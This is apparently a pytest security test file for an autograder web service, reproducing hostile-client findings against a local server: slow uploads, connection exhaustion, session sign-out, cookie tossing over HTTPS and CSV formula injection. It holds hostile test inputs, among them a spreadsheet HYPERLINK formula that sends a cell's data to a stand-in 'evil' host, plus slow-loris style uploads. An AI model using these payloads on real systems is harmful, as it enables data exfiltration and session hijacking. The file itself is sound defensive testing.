"""The service against hostile clients (issue 27): each finding reproduced against a real ``autograder serve``.

Its own small course and server (``--body-grace 3``: a body must arrive within 3 s plus its size at 16 KiB/s),
so slow bodies are bounded in time; every connection is to loopback and closed by the test.
"""

from __future__ import annotations

import csv
import io
import socket
import sqlite3
import stat
import time

import make_corpus
import pytest

from ..conftest import CHROMIUM, CHROMIUM_ARGS
from .server import UPGRADED, REPO, Server, Tosser, make_course, notebook_bytes, run, screenshot, self_signed, submit

SESSION = f"autograder_session-{UPGRADED}"  # the course's session cookie over HTTP ...
SECURE_SESSION = "__Host-" + SESSION  # ... and over HTTPS

pytestmark = pytest.mark.slow
A1, A2, A3 = "ps1_threshold_metrics", "ps2_roc_auc", "ps3_pr_ap"
FAR = "2099-01-01T00:00:00+08:00"
PAST = "2020-01-01T00:00:00+08:00"
STUDENTS = ["h01", "h02", "h03", "h04", "h05"]
BOUNDARY = "hostileboundary"
SHOTS = REPO / "artifacts" / "pages"  # beside the pages of test_pages.py


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    data = tmp_path_factory.mktemp("hostile") / "data"
    config = {"assignments": {
        A1: {"deadline": FAR, "attempts_per_24h": 50},
        A2: {"deadline": PAST, "late": {"penalty": 0.5, "until": FAR}},
        A3: {"deadline": PAST},
    }}
    codes = make_course(data, STUDENTS, config=config)
    server = Server(data, "--jobs", "1", "--body-grace", "3").start()
    yield {"server": server, "codes": codes, "data": data}
    server.stop()


@pytest.fixture(scope="module")
def tls_site(tmp_path_factory):
    """A second course served over HTTPS (a throwaway certificate for 127.0.0.1 and ``*.example.test``): two
    students of assignment 1; shared by the cookie-tossing tests over TLS (HTTP clients and the browser)."""
    folder = tmp_path_factory.mktemp("tls")
    data = folder / "data"
    codes = make_course(data, ["t01", "t02"], config={"assignments": {A1: {"deadline": FAR}}})
    tls = self_signed(folder / "cert")
    server = Server(data, "--jobs", "1", tls=tls, public_host="course.example.test").start()
    yield {"server": server, "codes": codes, "tls": tls}
    server.stop()


def multipart(assignment: str) -> bytes:
    body = notebook_bytes(make_corpus.solution(assignment))
    return (f"--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"notebook\"; filename=\"nb.ipynb\"\r\n"
            f"Content-Type: application/x-ipynb+json\r\n\r\n").encode() + body + f"\r\n--{BOUNDARY}--\r\n".encode()


def open_upload(server: Server, code: str, assignment: str, length: int | None = None) -> socket.socket:
    """A raw upload whose headers are sent (chunked, or with ``length``); the body is the caller's to send."""
    s = socket.create_connection(("127.0.0.1", server.port), timeout=20)
    framing = f"Content-Length: {length}" if length is not None else "Transfer-Encoding: chunked"
    s.sendall((f"POST /c/{UPGRADED}/api/v1/assignments/{assignment}/submissions HTTP/1.1\r\nHost: 127.0.0.1\r\n"
               f"Authorization: Bearer {code}\r\nContent-Type: multipart/form-data; boundary={BOUNDARY}\r\n"
               f"{framing}\r\n\r\n").encode())
    return s


def chunk(data: bytes) -> bytes:
    return f"{len(data):x}\r\n".encode() + data + b"\r\n"


def answer(s: socket.socket) -> str:
    """The status line and body of the answer on ``s`` (read until the JSON body ends or the socket closes)."""
    out = b""
    while not out.rstrip().endswith(b"}"):
        part = s.recv(65536)
        if not part:
            break
        out += part
    return out.decode("utf-8", "replace")


def extend(data, student: str, assignment: str, deadline: float) -> None:
    """The instructor's exception, written as the pages write it (the service reads it on every upload)."""
    with sqlite3.connect(data / "gradebook.db") as con:
        con.execute("INSERT OR REPLACE INTO service_overrides (student_id, assignment, deadline, extra_attempts, updated_at,"
                    " updated_by) VALUES (?, ?, ?, 0, ?, 'test')",
                    (student, assignment, deadline, time.time()))


def stored(data, student: str) -> int:
    with sqlite3.connect(data / "gradebook.db") as con:
        return con.execute("SELECT count(*) FROM service_submissions WHERE student_id = ?", (student,)).fetchone()[0]


def test_a_body_completed_after_the_deadline_is_late(site):
    """Finding 1: an upload started before the deadline and finished after it is judged when it is complete."""
    server, codes, data = site["server"], site["codes"], site["data"]
    deadline = time.time() + 2.0
    extend(data, "h01", A3, deadline)  # no late work: after the deadline, refused
    extend(data, "h02", A2, deadline)  # late work x 0.5: after the deadline, late
    closed, late = open_upload(server, codes["h01"], A3), open_upload(server, codes["h02"], A2)
    bodies = {closed: multipart(A3), late: multipart(A2)}
    for s, body in bodies.items():
        s.sendall(chunk(body[:40]))  # the first boundary line, before the deadline
    time.sleep(max(deadline - time.time(), 0) + 0.5)
    for s, body in bodies.items():
        s.sendall(chunk(body[40:]) + b"0\r\n\r\n")
    refused, accepted = answer(closed), answer(late)
    closed.close(), late.close()
    assert refused.startswith("HTTP/1.1 403") and "截止" in refused, refused[:300]
    assert stored(data, "h01") == 0
    assert accepted.startswith("HTTP/1.1 202"), accepted[:300]
    with server.client(codes["h02"]) as c:
        rows = c.get("/api/v1/submissions", params={"assignment": A2}).json()["submissions"]
    assert [r["late"] for r in rows] == [True] and rows[0]["penalty"] == 0.5


def test_a_body_slower_than_its_time_limit_is_dropped(site):
    """Finding 1: a body that stops arriving is answered 408 after the grace period and nothing is stored."""
    server, codes, data = site["server"], site["codes"], site["data"]
    s = open_upload(server, codes["h03"], A1, length=1_000_000)
    s.sendall(b"--" + BOUNDARY.encode())
    started = time.monotonic()
    text = answer(s)
    waited = time.monotonic() - started
    s.close()
    assert text.startswith("HTTP/1.1 408") and "太慢" in text, text[:300]
    assert waited < 10, waited
    assert stored(data, "h03") == 0


def test_slow_hostile_uploads_leave_a_classmate_answered(site):
    """Finding 2: eight slow uploads of one student get two slots and then 503 at once; a classmate's upload is
    answered within 2 s."""
    server, codes, data = site["server"], site["codes"], site["data"]
    hostile = [open_upload(server, codes["h04"], A1, length=1_000_000) for _ in range(8)]
    try:
        for s in hostile:
            s.sendall(b"--")
        time.sleep(0.5)
        refused = []
        for s in hostile:  # no more body is sent: an answer now is a refusal that waited for nothing
            s.settimeout(2.0)  # room for a loaded machine; the two uploads holding slots wait this out
            try:
                refused.append(answer(s))
            except TimeoutError:
                pass
        busy = [r for r in refused if r.startswith("HTTP/1.1 503")]
        assert len(busy) == 6 and all("retry-after: 5" in r.lower() for r in busy), refused
        # the two uploads that held a slot may meanwhile have run out of body time (408), nothing else
        assert all(r.startswith(("HTTP/1.1 503", "HTTP/1.1 408")) for r in refused), refused
        started = time.monotonic()
        with server.client(codes["h05"]) as c:
            r = submit(c, A1, notebook_bytes(make_corpus.solution(A1)), timeout=2)
        assert r.status_code == 202, r.text
        assert time.monotonic() - started < 2
    finally:
        for s in hostile:
            s.close()
    assert stored(data, "h04") == 0


def test_roster_import_reads_nothing_without_a_session(site):
    """Finding 3: the roster upload is refused from its headers alone, before a byte of the body is read."""
    server = site["server"]
    with socket.create_connection(("127.0.0.1", server.port), timeout=5) as s:
        s.sendall((f"POST /c/{UPGRADED}/instructor/roster/import HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                   f"Content-Type: multipart/form-data; boundary={BOUNDARY}\r\nContent-Length: {10 << 20}\r\n\r\n").encode())
        head = s.recv(65536).decode("utf-8", "replace")  # no body sent: an answer now means none was awaited
    assert head.split(" ")[1] in ("303", "401", "403"), head[:300]


def test_csv_cells_cannot_become_formulas(site, tmp_path):
    """Finding 7: a roster name or email beginning with =, +, -, @ is written as text (a leading ') in the CLI's
    CODES.csv and in the codes CSV of the roster page."""
    server, codes, data = site["server"], site["codes"], site["data"]
    roster = tmp_path / "evil.csv"
    roster.write_text('student_id,name,email\nx01,"=HYPERLINK(""http://evil/?""&D2,""点击"")",+1@evil\n'
                      "x02,@SUM(1),-2@evil\n", encoding="utf-8")
    out = tmp_path / "codes.csv"
    run("roster", "import", str(roster), "--data", str(data), "--codes", str(out))  # the only course: no --course
    rows = list(csv.reader(out.open(encoding="utf-8")))
    assert rows[1][1].startswith("'=HYPERLINK(") and rows[1][2] == "'+1@evil"
    assert rows[2][1:3] == ["'@SUM(1)", "'-2@evil"]
    with server.client() as c:
        token = c.post("/api/v1/session", json={"code": codes["instructor"]}).json()["csrf_token"]
        r = c.post("/instructor/roster/import", params={"csrf_token": token},
                   files={"roster": ("r.csv", "student_id,name,email\nx03,=1+1,@x\n".encode())})
    assert r.status_code == 200, r.text
    page_rows = list(csv.reader(io.StringIO(r.text)))
    assert page_rows[1][1:3] == ["'=1+1", "'@x"]


def test_the_data_folder_is_private(site):
    """Finding 8: the data folder is 0700 and the database files (gradebook.db, -wal, -shm) are 0600."""
    data = site["data"]
    assert stat.S_IMODE(data.stat().st_mode) == 0o700
    files = [p for p in data.iterdir() if p.name.startswith("gradebook.db")]
    assert {p.name for p in files} >= {"gradebook.db", "gradebook.db-wal"}, files
    assert {p.name: stat.S_IMODE(p.stat().st_mode) for p in files} == {p.name: 0o600 for p in files}


def test_no_redirect_carries_the_request_host(site):
    """Informational finding: no answer puts the client's ``Host`` into ``Location``."""
    server = site["server"]
    with server.client() as c:
        for path in ("/api/v1/assignments/", "/instructor", "/api/v1/submissions/", "/assignments/x/"):
            r = c.get(path, follow_redirects=False, headers={"Host": "evil.example"})
            assert "evil.example" not in r.headers.get("location", ""), (path, r.headers.get("location"))


def test_signing_out_ends_the_session_on_the_server(site):
    """Finding 5: after ``DELETE /api/v1/session`` (and ``POST /logout``) the old cookie is refused."""
    server, codes = site["server"], site["codes"]
    for way in ("api", "page"):
        with server.client() as c:
            token = c.post("/api/v1/session", json={"code": codes["h05"]}).json()["csrf_token"]
            cookies = dict(c.cookies)
            assert c.get("/api/v1/session").status_code == 200
            if way == "api":
                r = c.delete("/api/v1/session", headers={"X-CSRF-Token": token})
                assert r.status_code == 200
            else:
                r = c.post("/logout", data={"csrf_token": token}, follow_redirects=False)
                assert r.status_code == 303
        with server.client(cookies=cookies) as kept:  # the cookie kept (or copied) after signing out
            r = kept.get("/api/v1/session")
            assert r.status_code == 401, (way, r.text)


def test_over_https_cookies_are_host_only_and_a_tossed_cookie_is_ignored(tls_site):
    """Finding 4 (cookie tossing), against a real server over TLS: the session and sign-in cookies are named
    ``__Host-`` with ``Secure``, ``Path=/`` and no ``Domain`` (a browser accepts such a cookie only from a secure
    page of this host, so a page on another port over HTTP, or on a sibling subdomain, cannot set it), and the
    server reads only that name: a plain ``autograder_session`` cookie - what a tossing page can set - is ignored,
    alone or next to the real one."""
    server, codes = tls_site["server"], tls_site["codes"]
    with server.client() as victim, server.client() as attacker:
        r = victim.post("/api/v1/session", json={"code": codes["t01"]})
        assert r.status_code == 200, r.text
        cookie = r.headers["set-cookie"]
        assert cookie.startswith("__Host-autograder_session-default=") and "; Secure" in cookie and "Path=/;" in cookie
        assert "domain" not in cookie.lower()
        mine = victim.cookies.get(SECURE_SESSION)
        assert victim.get("/api/v1/session").json()["login"] == "t01"
        attacker.post("/api/v1/session", json={"code": codes["t02"]})
        theirs = attacker.cookies.get(SECURE_SESSION)
        for header in (f"autograder_session={theirs}; __Host-autograder_session-default={mine}",
                       f"__Host-autograder_session-default={mine}; autograder_session={theirs}"):
            with server.client() as c:
                r = c.get("/api/v1/session", headers={"Cookie": header})
                assert r.json()["login"] == "t01", header
        with server.client() as c:
            assert c.get("/api/v1/session", headers={"Cookie": f"{SESSION}={theirs}"}).status_code == 401
    with server.client() as page:  # the sign-in page over HTTPS: its own cookie is __Host- too
        form = page.get("/login")
        assert form.headers["set-cookie"].startswith(f"__Host-autograder_login-{UPGRADED}=") and "; Secure" in form.headers["set-cookie"]
        token = form.text.split('name="csrf_token" value="')[1].split('"')[0]
        r = page.post("/login", data={"login": "t01", "code": codes["t01"], "csrf_token": token},
                      headers={"Origin": server.base}, follow_redirects=False)
        assert r.status_code == 303, r.text
        assert any(v.startswith("__Host-autograder_session-default=") for v in r.headers.get_list("set-cookie"))
        shown = page.get(f"/assignments/{A1}").text
        assert "&amp;account=t01" in shown  # the upload form says whom it was shown for


def test_over_https_a_sibling_host_cannot_toss_the_session_cookie_in_a_browser(tls_site, browser):
    """Finding 4 over HTTPS in Debian's chromium: the course at https://course.example.test, a classmate's page
    at https://evil.example.test (both on this machine) sets ``autograder_session`` and
    ``__Host-autograder_session`` for the whole ``example.test`` (``Domain=``) to the classmate's session.  The
    browser drops the ``__Host-`` one (a ``Domain`` is not allowed with that prefix), the service ignores the
    plain one over HTTPS: the student stays signed in as themself, with no notice needed."""
    server, codes, tls = tls_site["server"], tls_site["codes"], tls_site["tls"]
    with server.client() as c:
        r = c.post("/api/v1/session", json={"code": codes["t02"]})
        assert r.status_code == 200
        theirs = r.headers["set-cookie"].split(";")[0].split("=", 1)[1]  # the classmate's session, whatever its name
    tosser = Tosser(theirs, [f"{name}={theirs}; Domain=example.test; Path=/; Secure; HttpOnly; SameSite=Lax"
                             for name in (SESSION, SECURE_SESSION)], tls=tls)
    base = f"https://course.example.test:{server.port}/c/{UPGRADED}"
    # a browser of its own (the host names resolved to this machine), from the shared browser's Playwright
    b = browser.browser_type.launch(executable_path=CHROMIUM, headless=True,
                                    args=[*CHROMIUM_ARGS, "--host-resolver-rules=MAP *.example.test 127.0.0.1"])
    try:
        ctx = b.new_context(viewport={"width": 1280, "height": 900}, locale="zh-CN", ignore_https_errors=True)
        page = ctx.new_page()
        page.goto(f"{base}/login")
        page.fill("#login", "t01")
        page.fill("#code", codes["t01"])
        with page.expect_navigation():
            page.click("button[type=submit]")
        assert page.locator(".who").inner_text().endswith("（t01）")
        mine = {c["name"]: c for c in ctx.cookies() if "autograder" in c["name"]}
        assert set(mine) == {SECURE_SESSION} and mine[SECURE_SESSION]["secure"]
        other = ctx.new_page()
        other.goto(f"https://evil.example.test:{tosser.port}/")
        other.close()
        tossed = [(c["name"], c["domain"]) for c in ctx.cookies() if c["value"] == theirs]
        assert tossed == [(SESSION, ".example.test")], tossed  # the __Host- one was refused
        page.goto(f"{base}/")  # the browser now sends both cookies; the service reads only the __Host- one
        assert page.locator(".who").inner_text().endswith("（t01）")
        assert page.locator(".account-change").count() == 0
        screenshot(page, SHOTS / "https-tossing-ignored-desktop.png")
        who = page.evaluate("fetch('api/v1/session', {credentials: 'same-origin'}).then(r => r.json()).then(j => j.login)")
        assert who == "t01"
    finally:
        b.close()
        tosser.close()
